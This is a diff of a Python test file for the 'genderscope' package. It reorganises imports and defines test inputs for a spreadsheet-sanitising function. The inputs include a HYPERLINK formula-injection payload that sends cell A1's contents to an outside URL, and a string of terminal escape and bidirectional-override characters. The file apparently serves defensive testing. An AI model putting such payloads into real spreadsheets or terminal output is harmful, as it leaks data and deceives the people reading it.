@@ -6,10 +6,10 @@ import io
 import pytest
 
 import genderscope
+from genderscope.core.questions import Choice, ChoiceAnswer
 from genderscope.models import Batch, Plan, WordModel
-from genderscope.questions import Choice, ChoiceAnswer
 from genderscope.runs import csv_file
-from genderscope.terminal_safe import spreadsheet_safe
+from genderscope.util.safe_text import spreadsheet_safe
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1,"open me")'
 HOSTILE = "The server said \x1b[31mred\x1b[0m and \u202eback\u202c and \x07 and \u2066inside\u2069."
